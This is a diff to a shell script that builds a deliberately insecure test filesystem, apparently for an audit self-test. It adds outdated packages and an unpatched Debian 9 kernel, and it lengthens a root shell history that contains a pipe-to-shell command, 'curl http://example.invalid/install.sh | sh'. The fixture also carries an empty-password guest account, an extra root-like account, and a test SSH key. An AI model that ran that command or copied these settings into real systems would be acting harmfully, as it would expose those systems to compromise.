@@ -134,6 +134,8 @@ head -c 4096 /dev/zero >> "$dirty/usr/bin/sh"; chmod 755 "$dirty/usr/bin/sh"
   dpkg_entry openssl 0.9.8o-4squeeze14
   dpkg_entry ufw 0.36.2-1
   dpkg_entry omi 1.6.8-0
+  dpkg_entry libc6 2.13-38+deb7u10
+  dpkg_entry linux-image-4.9.0-9-amd64 4.9.168-1+deb9u2
 } > "$dirty/var/lib/dpkg/status"
 rm "$dirty/usr/sbin/sshd"   # sshd_config left behind, no SSH server
 cat >> "$dirty/etc/passwd" <<'PW'
@@ -144,7 +146,8 @@ PW
 sed -i 's/^root:\*:/root:$6$rounds=5000$saltsalt$Zk0e1bJm0yVYb8c5rQm9eLr6A2o9l5a0Rr9jYcB1x3m0ZC1uJtq4lq9Q7r7hFQXkq5fJZsE8p2nYtq0mQxWb1.:/' "$dirty/etc/shadow"
 printf 'toor:$6$abc$defghijklmnop:19800:0:99999:7:::\ntester:$y$j9T$saltsaltsalt$hashhashhashhashhashhashhashhashhashhash:19800:0:99999:7:::\nguest::19800:0:99999:7:::\n' >> "$dirty/etc/shadow"
 mkdir -p "$dirty/root/.ssh" "$dirty/home/tester/.ssh" "$dirty/home/guest"
-printf 'ls -la\ncurl http://example.invalid/install.sh | sh\n' > "$dirty/root/.bash_history"
+# over 1 KiB: the size above which the self-test fails a shell history
+{ printf 'ls -la\ncurl http://example.invalid/install.sh | sh\n'; for i in $(seq 1 40); do printf 'apt-get install -y build-dep-%02d\n' "$i"; done; } > "$dirty/root/.bash_history"
 : > "$dirty/home/guest/.bash_history"
 printf 'import os\n' > "$dirty/home/tester/.python_history"
 printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRlc3Qta2V5LXJlbW92ZS1tZS1iZWZvcmUtc2hpcHBpbmc test@build\n' > "$dirty/root/.ssh/authorized_keys"
@@ -167,11 +170,12 @@ GRUB_CMDLINE_LINUX_DEFAULT="quiet"
 GRUB_CMDLINE_LINUX=""
 GRUB
 mkdir -p "$dirty/boot/grub"
-head -c 4096 /dev/urandom > "$dirty/boot/vmlinuz-6.1.0-28-amd64"
-printf 'CONFIG_WATCHDOG=y\n# CONFIG_CIFS is not set\n' > "$dirty/boot/config-6.1.0-28-amd64"
+# Debian 9's kernel before the SACK fix (its package says 4.9.168-1+deb9u2)
+head -c 4096 /dev/urandom > "$dirty/boot/vmlinuz-4.9.0-9-amd64"
+printf 'CONFIG_WATCHDOG=y\n# CONFIG_CIFS is not set\n' > "$dirty/boot/config-4.9.0-9-amd64"
 cat > "$dirty/boot/grub/grub.cfg" <<'CFG'
 menuentry 'Debian GNU/Linux' {
-	linux	/boot/vmlinuz-6.1.0-28-amd64 root=/dev/sda1 ro quiet
+	linux	/boot/vmlinuz-4.9.0-9-amd64 root=/dev/sda1 ro quiet
 }
 CFG
 cat > "$dirty/etc/fstab" <<FSTAB
